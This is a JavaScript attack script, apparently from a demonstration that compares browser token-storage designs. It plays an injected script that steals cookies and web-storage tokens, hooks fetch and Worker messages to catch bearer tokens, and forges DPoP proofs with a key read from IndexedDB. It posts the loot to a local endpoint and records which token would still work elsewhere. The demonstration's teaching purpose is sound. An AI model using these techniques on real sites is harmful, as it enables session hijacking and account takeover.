// What an attacker runs in the page. Nothing here needs more than the page's own scripts have.
const HOME = new URL(import.meta.url).origin;
const CSRF = { 'x-csrf': '1' };
const write = (place, cell, text) => {
  document.querySelector(`tr[data-place="${place}"] [data-cell="${cell}"]`).textContent = text;
};
const click = (id) => document.getElementById(id).click();
const wait = (milliseconds) => new Promise((resolve) => { setTimeout(resolve, milliseconds); });
const honestFetch = globalThis.fetch;

const send = async (path, loot) =>
  (await honestFetch(HOME + path, { method: 'POST', body: JSON.stringify(loot ?? {}) })).json();
const verdict = (status) => (status === 200 ? 'works' : `refused, ${status}`);

const base64url = (bytes) =>
  btoa(String.fromCharCode(...new Uint8Array(bytes))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');

const encode = (text) => new TextEncoder().encode(text);
async function jwkOf({ publicKey }) {
  const { crv, kty, x, y } = await crypto.subtle.exportKey('jwk', publicKey);
  return { crv, kty, x, y };
}

/** Writes down what was read, and what it is worth on another computer. */
async function report(place, token, how = 'yes', proof) {
  write(place, 'read', token ? how : 'no');
  if (!token) return write(place, 'elsewhere', 'nothing to take along');
  const { alone, proved, provedAgain } = await send('/loot', { place, token, proof });
  const more = proof ? `; with a proof made here ${verdict(proved)}, again ${verdict(provedAgain)}` : '';
  return write(place, 'elsewhere', verdict(alone) + more);
}

const within = async (place, call) => write(place, 'within', verdict(await call()));
const ride = (way, headers = {}) => async () =>
  (await honestFetch(`${way}/orders`, { method: 'POST', headers: { ...CSRF, ...headers } })).status;
const bearer = (token) => ride('/api/bearer', { authorization: `Bearer ${token}` });

/** Asks for a token as the page does, for this place. */
async function anew(place, path) {
  const answer = await honestFetch(path, { method: 'POST', headers: CSRF });
  const { access_token: token } = JSON.parse((await answer.text()) || '{}');
  if (!token) return write(place, 'anew', 'no');
  return write(place, 'anew', verdict((await send('/loot', { place: `${place}, anew`, token })).alone));
}

/** Asks for one that is bound to a key which the attacker has, and may take along. */
async function anewForOwnKey(place) {
  const keys = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign']);
  const thumbprint = base64url(await crypto.subtle.digest('SHA-256', encode(JSON.stringify(await jwkOf(keys)))));
  const answer = await honestFetch(`/token?jkt=${thumbprint}`, { method: 'POST', headers: CSRF });
  const { access_token: token } = await answer.json();
  const proof = await prove(keys, token, 'GET');
  const { proved } = await send('/loot', { place: `${place}, anew`, token, proof });
  return write(place, 'anew', `for a key of its own, ${verdict(proved)}`);
}

/** Waits in ambush where every page has to pass, then lets the page use all of its tokens. */
async function ambush() {
  const caught = {};
  globalThis.fetch = (url, init) => {
    const { authorization } = init?.headers ?? {};
    if (authorization?.startsWith('Bearer ')) (caught.tokens ??= []).push(authorization.slice(7));
    return honestFetch(url, init);
  };
  const { postMessage } = Worker.prototype;
  Worker.prototype.postMessage = function (...message) {
    caught.worker = this;
    return postMessage.apply(this, message);
  };
  const known = [localStorage.getItem('token'), sessionStorage.getItem('token')];
  click('use');
  const memory = () => caught.tokens?.find((token) => !known.includes(token) && token !== 'undefined');
  for (let tries = 0; tries < 300 && !(memory() && caught.worker); tries += 1) await wait(50);
  return { memory: memory(), worker: caught.worker };
}

const ask = (worker, work) => new Promise((resolve) => {
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = ({ data }) => resolve(data);
  worker.postMessage(work, [port2]);
});

const fromDatabase = () => new Promise((resolve) => {
  const opening = indexedDB.open('shop', 1);
  opening.onsuccess = () => {
    const asked = opening.result.transaction('kept').objectStore('kept').get('bound');
    asked.onsuccess = () => { opening.result.close(); resolve(asked.result); };
  };
});

/** Uses the key where it is, for a request whenever and wherever it will be sent. */
async function prove(keys, token, method) {
  const claims = {
    jti: crypto.randomUUID(), htm: method, htu: new URL('/api/bearer/orders', location).href,
    iat: Math.floor(Date.now() / 1000), ath: base64url(await crypto.subtle.digest('SHA-256', encode(token))),
  };
  const header = { typ: 'dpop+jwt', alg: 'ES256', jwk: await jwkOf(keys) };
  const signed = [header, claims].map((part) => base64url(encode(JSON.stringify(part)))).join('.');
  const signature = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, keys.privateKey, encode(signed));
  return `${signed}.${base64url(signature)}`;
}

async function attack() {
  const cookies = Object.fromEntries(document.cookie.split('; ').map((cookie) => cookie.split('=')));
  await report('session', cookies['__Host-session']);
  await within('session', ride('/bff'));
  await anew('session', '/login');
  await report('cookie', cookies['__Host-token']);
  await within('cookie', ride('/api/cookie'));
  await anew('cookie', '/login');

  const { keys, token } = await fromDatabase();
  const key = await crypto.subtle.exportKey('pkcs8', keys.privateKey).then(() => ', and the key', () => ', not the key');
  await report('bound', token, `the token${key}`, await prove(keys, token, 'GET'));
  const proof = await prove(keys, token, 'POST');
  await within('bound', ride('/api/bearer', { authorization: `DPoP ${token}`, dpop: proof }));
  await anewForOwnKey('bound');

  const { memory, worker } = await ambush();
  await report('worker', undefined);
  await within('worker', () => ask(worker, 'orders'));
  await anew('worker', '/token');
  await report('memory', memory, 'yes, when the page uses it');
  await within('memory', bearer(memory));
  await anew('memory', '/token');

  for (const place of ['sessionStorage', 'localStorage']) {
    const found = globalThis[place].getItem('token');
    await report(place, found);
    await within(place, bearer(found));
    await anew(place, '/token');
  }
  await report('readable', cookies['__Host-readable']);
  await within('readable', ride('/api/readable'));
  await anew('readable', '/token');
}

document.addEventListener('logged-out', async () => {
  for (const [place, status] of Object.entries(await send('/loot/again'))) {
    if (!place.includes(',')) write(place, 'after', verdict(status));
  }
  for (const row of document.querySelectorAll('tr[data-place]')) {
    const after = row.querySelector('[data-cell="after"]');
    if (!after.textContent) after.textContent = 'nothing was taken';
  }
  document.documentElement.dataset.after = 'yes';
});

await attack();
document.documentElement.dataset.attacked = 'yes';
document.querySelector('[role=status]').textContent = 'A script of a stranger has run in this page. The table says what it got.';
